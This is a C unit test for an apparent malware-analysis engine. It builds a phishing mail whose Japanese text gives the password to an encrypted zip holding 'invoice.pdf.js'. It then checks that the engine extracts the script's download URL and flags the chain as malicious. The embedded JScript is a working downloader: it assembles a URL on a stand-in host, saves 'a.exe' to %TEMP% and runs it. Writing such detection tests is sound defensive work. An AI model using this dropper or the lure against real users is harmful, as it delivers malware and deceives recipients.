/* test_chain.c - one whole chain with everything real: a mail with the password in its text, an
 * encrypted archive, a script with the name of a document that fetches, writes and starts. The
 * script is inert: its host does not exist. */
#include "analyze/analyze.h"

#include "base/enc.h"
#include "base/mem.h"
#include "support/shared.h"
#include "support/zip_writer.h"

#include <glob.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

static const char script[] =
        "var p = ['http:/', '/files.exam', 'ple/a.exe'].join('');\r\n"
        "var f = new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%') + "
        "'\\\\a.exe';\r\n"
        "var x = new ActiveXObject('MSXML2.XMLHTTP');\r\n"
        "x.open('GET', p, false);\r\nx.send();\r\n"
        "var s = new ActiveXObject('ADODB.Stream');\r\n"
        "s.Type = 1;\r\ns.Open();\r\ns.Write(x.responseBody);\r\ns.SaveToFile(f, 2);\r\n"
        "new ActiveXObject('WScript.Shell').Run(f);\r\n";

/* "The password is 2846", in Japanese. */
static const char body[] = "\xE3\x83\x91\xE3\x82\xB9\xE3\x83\xAF\xE3\x83\xBC\xE3\x83\x89"
                           "\xE3\x81\xAF 2846 \xE3\x81\xA7\xE3\x81\x99\xE3\x80\x82\r\n";

static int write_mail(void)
{
    struct zip_writer writer = { 0 };
    struct zip_writer_entry entry = { .name = HN_TEXT("invoice.pdf.js"),
        .data = hn_bytes_of(script, sizeof script - 1),
        .deflate = true,
        .password = "2846" };
    struct hn_buf mail = { 0 };
    char path[] = "/tmp/hn_chain_test_XXXXXX";
    int fd = mkstemp(path);

    assert_true(fd >= 0);
    (void)unlink(path);
    hn_buf_add_lit(&mail,
            "From: \"Yamada\" <yamada@partner.example>\r\nTo: sato@corp.example\r\n"
            "Subject: Re: invoice\r\nDate: Mon, 23 Nov 2026 10:00:00 +0900\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
            "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n");
    hn_buf_add_text(&mail, hn_text_of(body, sizeof body - 1));
    hn_buf_add_lit(&mail, "--b\r\nContent-Type: application/zip; name=\"invoice.zip\"\r\n"
                          "Content-Disposition: attachment; filename=\"invoice.zip\"\r\n"
                          "Content-Transfer-Encoding: base64\r\n\r\n");
    zip_writer_add(&writer, &entry);
    hn_base64_encode(&mail, zip_writer_end(&writer, true));
    hn_buf_add_lit(&mail, "\r\n--b--\r\n");
    assert_int_equal(write(fd, mail.ptr, mail.len), mail.len);
    zip_writer_deinit(&writer);
    hn_buf_deinit(&mail);
    return fd;
}

static struct judge_set *pack_rules(void)
{
    struct sigma_loader *loader = sigma_loader_new(NULL);
    struct match_options match = { .want_context = true };
    struct judge_set_options options = { 0 };
    struct sigma_set *rules = NULL;
    struct judge_set *set;
    glob_t found;

    assert_int_equal(glob(HN_TESTS_DIR "/../rules/analysis/*.yml", 0, NULL, &found), 0);
    for (size_t i = 0; i < found.gl_pathc; i++) {
        struct hn_bytes text = shared_read(found.gl_pathv[i]);

        assert_int_equal(sigma_loader_add_text(loader, hn_text_cstr(found.gl_pathv[i]),
                                 hn_bytes_as_text(text), NULL),
                HN_OK);
        shared_free(text);
    }
    globfree(&found);
    assert_int_equal(sigma_loader_finish(loader, &rules, NULL), HN_OK);
    sigma_loader_free(loader);
    assert_int_equal(match_snapshot_new(rules, &match, &options.snapshot, NULL), HN_OK);
    set = judge_set_new(&options);
    assert_non_null(set);
    match_snapshot_unref(options.snapshot);
    sigma_set_unref(rules);
    return set;
}

static bool has_hit(const struct analyze_verdict *verdict, const char *title)
{
    for (size_t i = 0; i < verdict->hit_count; i++)
        if (hn_text_eq(verdict->hits[i].title, hn_text_cstr(title)))
            return true;
    print_error("no hit: %s\n", title);
    return false;
}

/* mail > archive > script > what it would do, and why that is malicious. */
static void the_whole_chain_is_walked(void **state)
{
    struct analyze_task task = {
        .fd = write_mail(), .name = HN_TEXT("mail.eml"), .keep = DISSECT_KEEP_SCRIPTS
    };
    struct analyze_worker *worker = NULL;
    struct analyze_sample sample;
    struct analyze_verdict verdict;
    struct analyze_judge *judge;
    struct judge_set *set;
    const struct dissect_act *act = NULL;

    (void)state;
    assert_int_equal(analyze_worker_start(NULL, NULL, &worker, NULL), HN_OK);
    set = pack_rules();
    judge = analyze_judge_new(set);
    assert_int_equal(analyze_worker_run(worker, &task, &sample, NULL), HN_OK);
    for (uint32_t id = 0; id < dissect_count(sample.dissect); id++)
        if (dissect_get(sample.dissect, id)->format == DISSECT_JSCRIPT && act == NULL)
            act = dissect_get(sample.dissect, id)->acts;
    while (act != NULL && act->kind != SCRIPT_ACT_HTTP)
        act = act->next;
    if (act == NULL)
        fail_msg("the script asks for nothing");
    else
        assert_true(hn_text_eq(act->fields[0].value, HN_TEXT("http://files.example/a.exe")));
    assert_int_equal(analyze_judge_tree(judge, sample.dissect, &verdict, NULL), HN_OK);
    assert_int_equal(verdict.kind, ANALYZE_MALICIOUS);
    assert_true(has_hit(&verdict, "Document or Mail Would Fetch a File and Run It"));
    assert_true(has_hit(&verdict, "File Name Made to Deceive"));
    assert_true(
            has_hit(&verdict, "Encrypted Archive in a Mail With a Program, Script or Macro in It"));
    analyze_verdict_deinit(&verdict);
    analyze_sample_deinit(&sample);
    analyze_judge_free(judge);
    judge_set_unref(set);
    analyze_worker_stop(worker);
    (void)close(task.fd);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_whole_chain_is_walked),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
